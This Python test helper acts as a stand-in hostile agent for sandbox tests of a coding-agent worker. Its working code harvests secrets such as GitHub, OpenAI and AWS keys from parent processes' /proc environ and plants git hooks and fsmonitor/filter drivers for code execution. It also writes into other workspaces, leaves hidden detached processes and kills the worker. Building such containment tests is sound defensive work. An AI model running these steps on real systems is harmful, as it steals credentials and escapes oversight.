#!/usr/bin/env python3
"""STAND-IN hostile agent and hostile check: what a job's untrusted code could try against the
worker that runs it. It is not Codex and not a real exploit; it exists for the job-level attack
tests (tests/worker/runtime/test_sandbox_attacks.py) and is never used by production code.

Two ways in, the same attempts:

- the stand-in agent (``tools/standins/codex_standin.py``) runs them when its prompt carries
  ``[standin:attack=...]`` (the directives are listed below), as an agent would run code a
  prompt asked for;
- a check runs them as ``exec python3 tools/standins/attacks.py --role check ...`` (``exec``, so
  that ``$PPID`` is whatever started the check: the worker without a sandbox, the sandbox's
  PID 1 with one), as a test runner would load a ``conftest.py`` the agent left.

The attempts (``--attacks``, comma-separated; default all):

``environ``
    Read ``/proc/<pid>/environ`` of its parent chain, up to the worker's pid when it is given
    (never further: the machine's other processes are none of its business), and harvest the
    values of the well-known secret names (:data:`WANTED`). Only those names' values are kept;
    of the rest only the names.
``workspaces``
    List the directory holding its own workspace (``<data dir>/workspaces``), then read a file
    of, and write ``ATTACKED-<token>.txt`` into, every other workspace found there and the one
    named by ``--target``.
``git``
    Plant ``core.fsmonitor``, ``core.hooksPath``, hooks, a ``filter.<x>`` clean/smudge/process
    driver, ``diff.external`` and a ``diff.<x>.textconv``/``command`` driver in the workspace's
    ``.git/config`` (plus a ``.gitattributes`` selecting the drivers). Each planted program
    appends a line to ``<markers>/<role>-<kind>.ran`` when it runs, so a marker file proves the
    worker's own git (add, commit, diff, push) executed it.
``leftovers``
    Leave two ``sleep 4321`` processes behind: one ``setsid`` with its environment kept, one
    double-forked into its own session with its environment cleared (``env -i``), the way a
    process hides from a sweep that looks for a marker in the environment. Both carry
    ``JANGAR_STANDIN_LEFTOVER=<token>:<role>-<kind>`` so the test can find them by that marker.
``signal``
    ``kill -9 $PPID`` and ``kill -9 <worker pid>`` (``--worker-pid``), then look whether they
    are still alive.
``flood``
    Print ``--flood-bytes`` (default 50 MiB) to stdout.

Every attempt records what it observed; nothing is raised. The report is printed as the last
line ``STANDIN-ATTACK-REPORT <json>`` and written to ``ATTACK-REPORT-<role>.json`` in the
workspace (the agent's ends up in the pushed commit; a check's changes are discarded, its
report is in its log). The process exits 0: the job's own work must still succeed.

Agent prompt directives: ``[standin:attack=environ,git,...]`` (or ``[standin:attack]``: all),
``[standin:attack-token=T]``, ``[standin:attack-worker-pid=N]``, ``[standin:attack-target=PATH]``,
``[standin:attack-markers=DIR]``, ``[standin:attack-flood-bytes=N]``.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ATTACKS = ("environ", "workspaces", "git", "leftovers", "signal", "flood")
WANTED = (
    "CONVEX_DEPLOY_KEY",
    "CONVEX_ADMIN_KEY",
    "TEMPORAL_API_KEY",
    "GITHUB_TOKEN",
    "GH_TOKEN",
    "OPENAI_API_KEY",
    "CODEX_API_KEY",
    "JANGAR_WEBHOOK_SECRET",
    "AWS_SECRET_ACCESS_KEY",
)
"""The secrets a hostile job would look for in the worker's environment."""
LEFTOVER_ENV = "JANGAR_STANDIN_LEFTOVER"
REPORT_PREFIX = "STANDIN-ATTACK-REPORT "
DEFAULT_FLOOD_BYTES = 50 * 1024 * 1024
SLEEP_SECONDS = "4321"
DRIVER = "standinattack"
HOOKS = ("pre-commit", "post-commit", "commit-msg", "reference-transaction", "pre-push")


@dataclass(frozen=True)
class Plan:
    """What to try, and what the test told the attacker (as a prompt or a command line would)."""

    role: str
    token: str
    attacks: tuple[str, ...] = ATTACKS
    worker_pid: int | None = None
    target: Path | None = None
    markers: Path | None = None
    flood_bytes: int = DEFAULT_FLOOD_BYTES


def _attack_list(value: str | None) -> tuple[str, ...]:
    if value is None or value in ("", "1", "all"):
        return ATTACKS
    chosen = tuple(name.strip() for name in value.split(",") if name.strip())
    unknown = sorted(set(chosen) - set(ATTACKS))
    if unknown:
        raise ValueError(f"unknown attacks {unknown}; known: {', '.join(ATTACKS)}")
    return chosen


def plan_from_directives(directives: Mapping[str, str], role: str = "agent") -> Plan:
    """The plan from the stand-in agent's ``[standin:attack...]`` prompt directives."""
    pid = directives.get("attack-worker-pid")
    target = directives.get("attack-target")
    markers = directives.get("attack-markers")
    return Plan(
        role=role,
        token=directives.get("attack-token", "no-token"),
        attacks=_attack_list(directives.get("attack")),
        worker_pid=int(pid) if pid else None,
        target=Path(target) if target else None,
        markers=Path(markers) if markers else None,
        flood_bytes=int(directives.get("attack-flood-bytes", DEFAULT_FLOOD_BYTES)),
    )


def _error(exc: BaseException) -> str:
    return f"{type(exc).__name__}: {exc}"


def _comm(pid: int) -> str | None:
    try:
        return Path(f"/proc/{pid}/comm").read_text().strip()
    except OSError:
        return None


def _parent(pid: int) -> int | None:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return None
    fields = stat.rsplit(")", 1)[-1].split()
    return int(fields[1]) if len(fields) > 1 else None


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return True
    return state != "Z"


# --- environ -------------------------------------------------------------------------------


def _environ_targets(plan: Plan) -> list[int]:
    """The parent chain, up to (and including) the worker's pid; just $PPID when the worker's
    pid is unknown or not an ancestor; plus the worker's pid itself when given."""
    chain: list[int] = []
    pid: int | None = os.getppid()
    while pid and len(chain) < 6:
        chain.append(pid)
        if plan.worker_pid is None or pid == plan.worker_pid:
            break
        pid = _parent(pid)
    if plan.worker_pid is not None and plan.worker_pid not in chain:
        chain = [*chain[:1], plan.worker_pid]
    return chain


def attack_environ(plan: Plan) -> dict[str, Any]:
    reads: list[dict[str, Any]] = []
    harvested: dict[str, str] = {}
    for pid in _environ_targets(plan):
        entry: dict[str, Any] = {"pid": pid, "comm": _comm(pid)}
        try:
            raw = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError as exc:
            entry.update(read=False, error=_error(exc))
            reads.append(entry)
            continue
        names = []
        for item in raw.split(b"\0"):
            name, sep, value = item.decode(errors="replace").partition("=")
            if not sep:
                continue
            names.append(name)
            if name in WANTED:
                harvested.setdefault(name, value)
        entry.update(read=True, names=sorted(names))
        reads.append(entry)
    return {"reads": reads, "harvested": harvested}


# --- other workspaces ----------------------------------------------------------------------


def attack_workspaces(plan: Plan) -> dict[str, Any]:
    own = Path.cwd()
    parent = own.parent
    out: dict[str, Any] = {"own": str(own), "parent": str(parent)}
    found: list[Path] = []
    try:
        names = sorted(os.listdir(parent))
        out["listed"] = names
        found = [parent / name for name in names if name != own.name]
    except OSError as exc:
        out["listed_error"] = _error(exc)
    if plan.target is not None and plan.target not in found:
        found.append(plan.target)
    targets: list[dict[str, Any]] = []
    for path in found:
        entry: dict[str, Any] = {"path": str(path)}
        try:
            entry["files"] = sorted(p for p in os.listdir(path) if p != ".git")
        except OSError as exc:
            entry["list_error"] = _error(exc)
        try:
            entry["read"] = (path / "NOTES.md").read_text(errors="replace")[:500]
        except OSError as exc:
            entry["read_error"] = _error(exc)
        try:
            (path / f"ATTACKED-{plan.token}.txt").write_text(f"written by {plan.role}\n")
            entry["wrote"] = True
        except OSError as exc:
            entry["wrote"] = False
            entry["write_error"] = _error(exc)
        targets.append(entry)
    out["targets"] = targets
    return out


# --- git -----------------------------------------------------------------------------------


def _script(path: Path, marker: Path, tail: str) -> None:
    path.write_text(
        "#!/bin/sh\n"
        "# STAND-IN attack payload: it runs only if the worker's git executes what the\n"
        "# workspace planted; the marker file proves that it did.\n"
        f"echo \"$0 $* uid=$(id -u) pid=$$\" >> '{marker}'\n"
        f"{tail}\n"
    )
    path.chmod(0o755)


def attack_git(plan: Plan, ws: Path | None = None) -> dict[str, Any]:
    """Plant in ``ws`` (default: the working directory, the job's workspace)."""
    ws = ws or Path.cwd()
    git_dir = ws / ".git"
    if not git_dir.is_dir():
        return {"planted": [], "error": f"{git_dir} is not a directory"}
    markers = plan.markers or Path("/nonexistent-markers")
    payload = git_dir / "standin-attack"
    hooks = payload / "hooks"
    hooks.mkdir(parents=True, exist_ok=True)
    role = plan.role
    fsmonitor, filt, diff = payload / "fsmonitor", payload / "filter", payload / "diff"
    _script(fsmonitor, markers / f"{role}-fsmonitor.ran", "exit 1")
    _script(filt, markers / f"{role}-filter.ran", "exec cat")
    _script(diff, markers / f"{role}-diff.ran", "exit 0")
    for name in HOOKS:
        _script(hooks / name, markers / f"{role}-hook-{name}.ran", "exit 0")
        default_hook = git_dir / "hooks" / name
        default_hook.parent.mkdir(exist_ok=True)
        shutil.copy(hooks / name, default_hook)
        default_hook.chmod(0o755)
    planted = {
        "core.fsmonitor": str(fsmonitor),
        "core.hooksPath": str(hooks),
        f"filter.{DRIVER}.clean": f"{filt} clean",
        f"filter.{DRIVER}.smudge": f"{filt} smudge",
        f"filter.{DRIVER}.required": "true",
        f"diff.{DRIVER}.textconv": f"{diff} textconv",
        f"diff.{DRIVER}.command": f"{diff} command",
        "diff.external": f"{diff} external",
    }
    with (git_dir / "config").open("a") as config:
        config.write(
            f'[core]\n\tfsmonitor = "{fsmonitor}"\n\thooksPath = "{hooks}"\n'
            f'[filter "{DRIVER}"]\n\tclean = "{filt} clean"\n\tsmudge = "{filt} smudge"\n'
            f"\trequired = true\n"
            f'[diff "{DRIVER}"]\n\ttextconv = "{diff} textconv"\n\tcommand = "{diff} command"\n'
            f'[diff]\n\texternal = "{diff} external"\n'
        )
    (ws / ".gitattributes").write_text(f"* filter={DRIVER} diff={DRIVER}\n")
    return {
        "planted": sorted(planted),
        "hooks": [str(git_dir / "hooks" / name) for name in HOOKS],
        "markers": str(markers),
    }


# --- leftovers -----------------------------------------------------------------------------


def _sleep_program() -> str:
    return shutil.which("sleep") or "/bin/sleep"


def _double_fork(env: dict[str, str]) -> int:
    """A ``sleep`` in a session of its own whose parent exited at once (re-parented away from
    us), with exactly ``env``; its pid (as this process sees pids)."""
    program = _sleep_program()
    read_end, write_end = os.pipe()
    first = os.fork()
    if first == 0:  # pragma: no cover - runs in the child
        try:
            os.close(read_end)
            os.setsid()
            second = os.fork()
            if second == 0:
                devnull = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                os.close(write_end)
                os.execve(program, ["sleep", SLEEP_SECONDS], env)
            os.write(write_end, str(second).encode())
        finally:
            os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end) as pipe:
        pid = int(pipe.read() or "0")
    os.waitpid(first, 0)
    return pid


def attack_leftovers(plan: Plan) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    label = f"{plan.token}:{plan.role}"
    try:
        setsid = subprocess.Popen(
            ["setsid", _sleep_program(), SLEEP_SECONDS],
            env={**os.environ, LEFTOVER_ENV: f"{label}-setsid"},
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        out.append({"kind": "setsid", "marker": f"{label}-setsid", "pid": setsid.pid})
    except OSError as exc:
        out.append({"kind": "setsid", "error": _error(exc)})
    try:
        pid = _double_fork({LEFTOVER_ENV: f"{label}-double-fork"})
        out.append({"kind": "double-fork", "marker": f"{label}-double-fork", "pid": pid})
    except OSError as exc:
        out.append({"kind": "double-fork", "error": _error(exc)})
    return out


# --- signals -------------------------------------------------------------------------------


def attack_signal(plan: Plan) -> list[dict[str, Any]]:
    targets: list[tuple[int, str]] = [(os.getppid(), "ppid")]
    if plan.worker_pid is not None and plan.worker_pid != os.getppid():
        targets.append((plan.worker_pid, "worker"))
    out: list[dict[str, Any]] = []
    for pid, why in targets:
        if pid in (0, os.getpid()):
            continue
        entry: dict[str, Any] = {"pid": pid, "as": why, "comm": _comm(pid)}
        try:
            os.kill(pid, signal.SIGKILL)
            entry["sent"] = True
        except OSError as exc:
            entry["sent"] = False
            entry["error"] = _error(exc)
        out.append(entry)
    time.sleep(0.3)
    for entry in out:
        entry["alive_after"] = _alive(entry["pid"])
    return out


# --- flood ---------------------------------------------------------------------------------


def attack_flood(plan: Plan) -> dict[str, Any]:
    line = b"[standin:attack] flood " + b"x" * (16 * 1024 - 24) + b"\n"
    chunk = line * 64  # 1 MiB
    sys.stdout.flush()
    written = 0
    try:
        while written < plan.flood_bytes:
            piece = chunk[: plan.flood_bytes - written]
            os.write(1, piece)
            written += len(piece)
    except OSError as exc:
        return {"bytes": written, "error": _error(exc)}
    return {"bytes": written}


# --- all of it -----------------------------------------------------------------------------


def run(plan: Plan) -> dict[str, Any]:
    """Every attempt of the plan; the report (also printed last and written to the workspace)."""
    report: dict[str, Any] = {
        "role": plan.role,
        "token": plan.token,
        "attacks": list(plan.attacks),
        "view": {"pid": os.getpid(), "ppid": os.getppid(), "ppid_comm": _comm(os.getppid())},
    }
    with contextlib.suppress(OSError):
        report["view"]["visible_pids"] = sorted(
            int(name) for name in os.listdir("/proc") if name.isdigit()
        )
    steps = {
        "environ": attack_environ,
        "workspaces": attack_workspaces,
        "git": attack_git,
        "leftovers": attack_leftovers,
        "signal": attack_signal,
        "flood": attack_flood,
    }
    for name in ATTACKS:
        if name in plan.attacks:
            try:
                report[name] = steps[name](plan)
            except Exception as exc:  # an attempt that breaks is an observation too
                report[name] = {"error": _error(exc)}
    for leftover in report.get("leftovers", []):
        if isinstance(leftover, dict) and "pid" in leftover:
            leftover["alive_at_exit"] = _alive(int(leftover["pid"]))
    text = json.dumps(report, sort_keys=True)
    with contextlib.suppress(OSError):
        Path(f"ATTACK-REPORT-{plan.role}.json").write_text(text + "\n")
    print(REPORT_PREFIX + text, flush=True)
    return report


def parse_report(text: str) -> dict[str, Any]:
    """The last report line in ``text`` (a log), for the tests."""
    for line in reversed(text.splitlines()):
        if line.startswith(REPORT_PREFIX):
            found: dict[str, Any] = json.loads(line[len(REPORT_PREFIX) :])
            return found
    raise ValueError("no STANDIN-ATTACK-REPORT line")


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="STAND-IN hostile check (see the docstring)")
    parser.add_argument("--role", default="check")
    parser.add_argument("--token", required=True)
    parser.add_argument("--attacks", default="all")
    parser.add_argument("--worker-pid", type=int)
    parser.add_argument("--target", type=Path)
    parser.add_argument("--markers", type=Path)
    parser.add_argument("--flood-bytes", type=int, default=DEFAULT_FLOOD_BYTES)
    args = parser.parse_args(argv)
    run(
        Plan(
            role=args.role,
            token=args.token,
            attacks=_attack_list(args.attacks),
            worker_pid=args.worker_pid,
            target=args.target,
            markers=args.markers,
            flood_bytes=args.flood_bytes,
        )
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
